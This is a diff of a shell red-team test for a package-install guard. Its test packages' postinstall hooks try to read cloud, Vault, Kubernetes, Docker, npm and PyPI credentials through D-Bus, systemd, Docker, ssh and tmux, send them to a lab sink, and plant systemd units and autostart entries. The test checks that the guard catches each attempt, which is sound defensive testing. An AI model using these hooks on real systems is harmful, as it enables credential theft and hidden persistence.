@@ -1,12 +1,13 @@
 #!/bin/bash
-# R24: the work is handed to somebody outside the tree: D-Bus, systemd, a container engine, tmux, ssh; units and autostart.
+# R24: the work is handed to somebody outside the tree: D-Bus, systemd, a container engine, tmux,
+# ssh; units and autostart.
 #
 # vm: no (needs a /run of its own)
 set -u
 cd "$(dirname "$0")/../.." || exit 2
 . tests/redteam/lib.sh
 
-sockets=/tmp/tmux-65534 # where a tmux server of the throw-away user listens
+sockets=/tmp/tmux-65534 # where a tmux server of the lab's user listens
 rt_network() {
 	mount -t tmpfs -o mode=755 tmpfs /run || exit 2
 	mkdir -p "$sockets" "$LAB/tmux" && mount --bind "$LAB/tmux" "$sockets" || exit 2
@@ -14,19 +15,23 @@ rt_network() {
 }
 rt_begin R24 'deputies'
 run=/run/user/$LAB_UID
-mkdir -p "$run/systemd" "$LAB/deputy" && chown -R "$LAB_UID:$LAB_GID" "$run" "$LAB/deputy" && chmod 711 /run/user
+mkdir -p "$run/systemd" "$LAB/deputy" && chown -R "$LAB_UID:$LAB_GID" "$run" "$LAB/deputy" &&
+	chmod 711 /run/user
 cp tests/redteam/packages/deputy/serve.js "$BEHAVE/net" "$LAB/deputy/"
 tmux=$(command -v tmux || :)
 
 # Each deputy steals another file, so that the sink shows which of them worked.
-names=(bus systemd docker ssh)
-where=("$run/bus" "$run/systemd/private" /run/docker.sock 22)
-steals=(.aws/credentials .vault-token .kube/config .netrc)
+names=(bus systemd docker ssh agent abstract)
+where=("$run/bus" "$run/systemd/private" /run/docker.sock 22 "$LAB/deputy/agent" @lab-deputy)
+steals=(.aws/credentials .vault-token .kube/config .netrc .docker/config.json .npmrc)
 deputies=
 rt_setup() {
-	[ -z "$deputies" ] || { kill "$deputies"; wait "$deputies"; rm -f "$run/bus" "$run/systemd/private" /run/docker.sock; } 2>/dev/null
+	[ -z "$deputies" ] || { kill "$deputies"; wait "$deputies"; rm -f "$run/bus" \
+		"$run/systemd/private" /run/docker.sock "$LAB/deputy/agent"; } 2>/dev/null
 	chmod 1777 /run # until the engine's socket is made
-	(cd / && exec setpriv --reuid="$LAB_UID" --regid="$LAB_GID" --clear-groups --inh-caps=+net_bind_service 		--ambient-caps=+net_bind_service node "$LAB/deputy/serve.js" "$RT_HOME" "$run/bus" "$run/systemd/private" 		/run/docker.sock 22) &
+	(cd / && exec setpriv --reuid="$LAB_UID" --regid="$LAB_GID" \
+		--clear-groups --inh-caps=+net_bind_service --ambient-caps=+net_bind_service \
+		node "$LAB/deputy/serve.js" "$RT_HOME" "${where[@]}") &
 	deputies=$!
 	LAB_PIDS+=("$deputies")
 	lab_wait_file /run/docker.sock "$deputies"
@@ -38,13 +43,17 @@ rt_setup() {
 }
 
 for i in "${!names[@]}"; do
-	rt_package "deputy-${names[i]}-x" 1.0.0 deputy postinstall "node delegate.js ${where[i]} ${steals[i]}" net
+	rt_package "deputy-${names[i]}-x" 1.0.0 deputy postinstall \
+		"node delegate.js ${where[i]} ${steals[i]}" net
 done
 if [ -n "$tmux" ]; then
-	rt_package deputy-tmux-x 1.0.0 - postinstall 		"tmux new-window -d 'sleep 3; $LAB/deputy/net tcp $RT_SINK $RT_HOME/.pypirc'; true"
+	rt_package deputy-tmux-x 1.0.0 - postinstall \
+		"tmux new-window -d 'sleep 3; $LAB/deputy/net tcp $RT_SINK $RT_HOME/.pypirc'; true"
 fi
-rt_package deputy-unit-x 1.0.0 - postinstall 	'mkdir -p ~/.config/systemd/user; ./bin/plant create ~/.config/systemd/user/colour.service; true' plant
-rt_package deputy-autostart-x 1.0.0 - postinstall 	'mkdir -p ~/.config/autostart; ./bin/plant create ~/.config/autostart/colour.desktop; true' plant
+rt_package deputy-unit-x 1.0.0 - postinstall \
+	'd=~/.config/systemd/user; mkdir -p $d; ./bin/plant create $d/colour.service; true' plant
+rt_package deputy-autostart-x 1.0.0 - postinstall \
+	'd=~/.config/autostart; mkdir -p $d; ./bin/plant create $d/colour.desktop; true' plant
 
 rt_control
 sleep 5
@@ -57,7 +66,8 @@ if rt_guarded; then
 	for name in "${names[@]}" ${tmux:+tmux}; do
 		rt_accused "deputy-$name-x" '^(escape)$'
 	done
-	rt_is 'units' "$(find "$RT_HOME/.config/systemd" "$RT_HOME/.config/autostart" -type f -size +0 2>/dev/null)" ''
+	units=$(find "$RT_HOME"/.config/{systemd,autostart} -type f -size +0 2>/dev/null)
+	rt_is 'units' "$units" ''
 	rt_withheld deputy-unit-x home-hidden 'persist|unit|systemd'
 	rt_stopped deputy-autostart-x 'persist|autostart'
 fi
